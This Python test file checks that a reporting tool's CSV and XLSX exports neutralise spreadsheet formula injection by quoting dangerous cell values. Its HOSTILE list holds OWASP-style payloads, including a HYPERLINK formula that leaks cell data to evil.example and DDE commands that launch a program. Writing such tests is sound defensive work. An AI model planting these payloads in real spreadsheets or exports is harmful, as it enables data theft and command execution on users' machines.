"""Issue 16 item 4: exported names never run as spreadsheet formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
from pathlib import Path

import fakes
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from levelfield import Workspace, open_workspace
from levelfield.cli import app
from levelfield.report import (
    export_tables,
    is_dangerous_text,
    safe_cell,
    safe_frame,
    write_safe_xlsx,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def _all_xlsx_cells(path: Path) -> list[openpyxl.cell.Cell]:
    wb = openpyxl.load_workbook(path)
    return [c for sheet in wb.worksheets for row in sheet.iter_rows() for c in row]


def test_export_neutralises_hostile_names_in_csv_and_xlsx(
    ws: Workspace, tmp_path: Path, fake_analyses: None
) -> None:
    fakes.fill_orders(ws)
    channels = [r[0] for r in ws.con.execute("SELECT DISTINCT channel FROM orders").fetchall()]
    for old, new in zip(channels, HOSTILE, strict=False):
        ws.con.execute("UPDATE orders SET channel = ? WHERE channel = ?", [new, old])
    files = export_tables(ws, tmp_path / "out")
    csv_text = (tmp_path / "out" / "customers_by_channel.csv").read_text()
    fields = [f for row in csv.reader(csv_text.splitlines()) for f in row]
    hostile = [f for f in fields if f.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert hostile == []
    assert "'" + HOSTILE[0] in fields  # the text itself is kept, behind a quote
    xlsx = next(p for p in files if p.suffix == ".xlsx")
    cells = _all_xlsx_cells(xlsx)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert HOSTILE[0] in texts  # unchanged text, stored as a string
    first = next(c for c in cells if c.value == HOSTILE[0])
    assert first.data_type == "s"
    assert first.quotePrefix


def test_cli_export_writes_no_formula(tmp_path: Path, fake_analyses: None) -> None:
    w = tmp_path / "w.duckdb"
    with open_workspace(w) as ws:
        fakes.fill_orders(ws)
        ws.con.execute("UPDATE orders SET channel = ?", [HOSTILE[0]])
    res = CliRunner().invoke(app, ["export", "-w", str(w), "-o", str(tmp_path / "out")])
    assert res.exit_code == 0, res.output
    cells = _all_xlsx_cells(tmp_path / "out" / "levelfield-tables.xlsx")
    assert not [c for c in cells if c.data_type == "f"]
    assert "'=HYPERLINK" in (tmp_path / "out" / "customers_by_channel.csv").read_text()


def test_write_safe_xlsx_headers_and_values(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=1+1": ["=2+2", "-3", "plain", None], "n": [1.5, -2, 3, 4]})
    path = write_safe_xlsx(tmp_path / "t.xlsx", {"s": frame})
    cells = _all_xlsx_cells(path)
    assert not [c for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    assert "=1+1" in values and "=2+2" in values
    assert -2 in values  # numbers stay numbers


def test_safe_frame_csv() -> None:
    frame = pd.DataFrame(
        {
            "name": ["=1+1", "-5", "-x", "ok", None],
            "cat": pd.Categorical(["@a", "b", "b", "b", "b"]),
        }
    )
    out = safe_frame(frame)
    assert out["name"].tolist()[:4] == ["'=1+1", "-5", "'-x", "ok"]
    assert out["name"].isna().tolist()[4]
    assert out["cat"].tolist()[0] == "'@a"
    assert frame["name"].tolist()[0] == "=1+1"  # the input is not changed


@pytest.mark.parametrize("value", HOSTILE)
def test_owasp_payloads_are_dangerous(value: str) -> None:
    assert is_dangerous_text(value)
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+3", "1e5", "Acme", "", "  ", "a=b", "'=x"])
def test_plain_text_and_numbers_are_left_alone(value: str) -> None:
    assert not is_dangerous_text(value)
    assert safe_cell(value) == value


@given(st.text())
def test_safe_cell_never_starts_with_a_trigger_and_keeps_the_text(value: str) -> None:
    out = safe_cell(value)
    assert out in (value, "'" + value)
    assert not is_dangerous_text(out)


@pytest.mark.parametrize("value", [None, 3, 2.5, pd.Timestamp("2024-01-01")])
def test_non_text_is_unchanged(value: object) -> None:
    assert safe_cell(value) is value
